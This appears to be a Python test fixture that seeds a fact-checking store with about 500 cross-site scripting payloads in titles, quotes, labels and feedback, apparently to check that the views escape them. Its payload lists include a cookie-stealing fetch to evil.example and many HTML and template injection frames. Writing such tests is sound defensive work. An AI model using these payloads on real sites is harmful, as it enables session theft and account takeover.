"""A store whose titles, quotes, outlets, labels and feedback try to run as scripts in whoever looks at them."""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from itertools import product

from tallymark.reading.pages.page import Page
from tallymark.store.claims.stored_claims import replace_claims
from tallymark.store.database import Database
from tallymark.store.pages.documents import record_revision
from tallymark.store.review.decisions import decide
from tallymark.store.review.feedback import claim_subject, receive

NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)

RUN = ("window.ran=1", "alert(1)", "fetch('//evil.example/?c='+document.cookie)", "document.title='ran'")
FRAMES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    '<img src=x onerror="{}">',
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    '"><script>{}</script>',
    "' onmouseover='{}' autofocus onfocus='{}",
    '" onfocus="{}" autofocus x="',
    '<iframe srcdoc="<script>{}</script>">',
    '<a href="javascript:{}">x</a>',
    '<details open ontoggle="{}">',
    '<video><source onerror="{}">',
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "<!--<script>{}</script>-->",
    '<math><mtext></form><form><mglyph><style></math><img src onerror="{}">',
    "{{{{ {} }}}}",
    "{{% {} %}}",
    "${{{}}}",
    '<base href="//evil.example/"><script>{}</script>',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<link rel=stylesheet href="data:text/css,*{{}}"><b onclick="{}">',
    "<style>*{{background:url(javascript:{})}}</style>",
    "]]><script>{}</script>",
    "\u2028</textarea><script>{}</script>",
)
WRAPPED = ("{}", "32,000 {}", "{} children", "%3C{}", "&lt;{}&#x3e;")


def payloads() -> Iterator[str]:
    """Five hundred, the plainest first."""
    for wrapped, run, frame in product(WRAPPED, RUN, FRAMES):
        yield wrapped.replace("{}", frame.format(*[run] * frame.count("{}")) if "{}" in frame else frame)


def fill(database: Database, hostile: list[str]) -> list[str]:
    """Stores a page for each, with one claim that somebody contests, and returns the ids of the claims."""
    ids: list[str] = []
    for number, payload in enumerate(hostile):
        with database.session() as session:
            now = NOW + timedelta(seconds=number)
            url = f"https://paper-{number}.example/{number}"
            page = Page(
                text=f"{payload} {number}",
                title=payload,
                outlet=payload,
                author=payload,
                lang="en",
                published=NOW,
                canonical_url=url,
                kind="post" if number % 3 == 0 else "article",
            )
            revision = record_revision(session, page, now)
            ids += replace_claims(
                session,
                revision.revision_id or 0,
                [_claim(payload, number)],
                unrelated=0,
                unscored=0,
                engine="1",
                dataset="d",
                now=now,
            )
            subject = claim_subject(session, ids[-1])
            assert subject is not None
            case = receive(session, subject, f"{payload} {number}", f"https://evil.example/{payload}", now).case
            decide(session, case, "declined", payload, "operator", now)
    return ids


def _claim(payload: str, number: int) -> dict[str, object]:
    value = str((32_000, 320_000, 85_000)[number % 3])
    verdicts = ("accurate", "misstated", "mischaracterised")
    return {
        "id": "x",
        "quote": {"exact": payload, "prefix": payload[:32], "suffix": payload[-32:]},
        "start": 0,
        "end": len(payload),
        "sentence": f"Officials said {payload} of them.",
        "quantity": {"low": value, "high": value, "hedge": "none", "unit": "person"},
        "report": "dhs-oig-24-46",
        "figure": "failed-to-appear",
        "derivation": {"formula": payload, "faithful": False, "why": payload} if number % 2 else None,
        "verdict": verdicts[number % 3],
        "stance": "asserted",
        "shown": True,
        "display": "verdict",
        "slots": {"value": {"grade": "match", "score": 1.0, "note": payload}},
        "score": 0.5,
        "confidence": 0.9,
        "label": {"headline": payload, "detail": payload, "lang": "en"},
        "repair": payload,
        "reason": None,
        "engine": "1",
        "dataset": "d",
    }
